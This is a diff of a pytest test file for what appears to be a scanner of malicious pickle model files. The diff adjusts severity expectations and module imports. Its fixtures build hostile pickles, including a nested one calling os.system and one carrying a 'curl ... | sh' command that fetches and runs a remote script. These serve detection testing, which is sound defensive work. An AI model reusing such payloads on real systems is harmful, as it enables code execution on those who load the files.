@@ -12,11 +12,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from labwarden.checks.modelfile import pickle_scan
+from labwarden.checks.modelfile import pickle_scan, pickle_vm
 from labwarden.checks.modelfile.lists import load_policy
 from labwarden.checks.modelfile.pickle_scan import PickleAnalyzer
+from labwarden.checks.modelfile.samples import shell_payload, sklearn_estimator, torch_state_dict
 from labwarden.core.values import Severity
-from labwarden.demo.pickles import shell_payload, sklearn_estimator, torch_state_dict
 
 from .builders import global_call, proto, rules, scan, stack_global_call, su, worst
 
@@ -223,15 +223,18 @@ def test_nested_pickle_loads() -> None:
     assert nested.evidence["nested_worst"] == "critical"
 
 
-def test_base64_and_hex_nested_pickles_are_medium() -> None:
+def test_base64_and_hex_nested_pickles_take_the_inner_verdict() -> None:
     import base64
 
     inner = stack_global_call("os", "system", "id")
+    harmless = proto(4) + b"}" + su("weights") + su("x") + b"s."
     for encoded in (base64.b64encode(inner).decode(), inner.hex()):
         data = proto(4) + b"}" + su("payload") + su(encoded) + b"s."
         found = scan(data)
         assert [f.rule for f in found] == ["nested-pickle"]
-        assert found[0].severity is Severity.MEDIUM
+        assert found[0].severity is Severity.CRITICAL
+    data = proto(4) + b"}" + su("payload") + su(base64.b64encode(harmless).decode()) + b"s."
+    assert [f.severity for f in scan(data)] == [Severity.MEDIUM]
 
 
 def test_several_pickles_in_one_file() -> None:
@@ -243,9 +246,15 @@ def test_several_pickles_in_one_file() -> None:
     assert dangerous.location.offset == len(first) + second.index(b"\x93")
 
 
-def test_unknown_import_is_medium_and_escalates_with_a_command_argument() -> None:
+def test_unknown_import_is_medium_and_high_once_it_runs() -> None:
+    reference = proto(4) + su("mylab.models") + su("Scorer") + b"\x93."
+    assert callables(reference) == {"mylab.models.Scorer": Severity.MEDIUM}
     plain = stack_global_call("mylab.models", "Scorer", "default")
-    assert callables(plain) == {"mylab.models.Scorer": Severity.MEDIUM}
+    assert callables(plain) == {"mylab.models.Scorer": Severity.HIGH}
+    built = proto(4) + su("mylab.models") + su("Scorer") + b"\x93)\x81}b."
+    assert callables(built) == {"mylab.models.Scorer": Severity.HIGH}
+    own = proto(4) + su("__main__") + su("Scorer") + b"\x93)\x81}b."
+    assert callables(own) == {"__main__.Scorer": Severity.MEDIUM}
     shell = stack_global_call("mylab.tools", "launch", "curl http://203.0.113.9/x.sh | sh")
     assert callables(shell)["mylab.tools.launch"] is Severity.HIGH
 
@@ -295,8 +304,8 @@ def test_truncated_pickle_still_reports_what_ran() -> None:
 
 def test_garbage_after_header_is_a_finding_not_a_crash() -> None:
     found = scan(proto(4) + b"\xff\xfe\xfd")
-    assert rules(found) == {"malformed-pickle"}
-    assert worst(found) < Severity.HIGH
+    assert rules(found) == {"malformed-pickle", "unparseable"}
+    assert worst(found) is Severity.HIGH
 
 
 def test_deep_nesting_is_bounded() -> None:
@@ -322,15 +331,15 @@ def test_huge_memo_indices_do_not_allocate() -> None:
 
 
 def test_memo_flood_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(pickle_scan, "MAX_MEMO", 1000)
-    monkeypatch.setattr(pickle_scan, "CHECK_EVERY", 64)
+    monkeypatch.setattr(pickle_vm, "MAX_MEMO", 1000)
+    monkeypatch.setattr(pickle_vm, "CHECK_EVERY", 64)
     data = proto(4) + b"]" + (b"(" + b"N\x94" * 500 + b"e") * 4 + b"."
     assert "memo-flood" in rules(scan(data))
 
 
 def test_get_of_unset_memo_is_malformed() -> None:
     found = scan(proto(4) + b"h\x05.")
-    assert rules(found) == {"malformed-pickle"}
+    assert rules(found) == {"malformed-pickle", "unparseable"}
 
 
 @settings(max_examples=150, deadline=None)
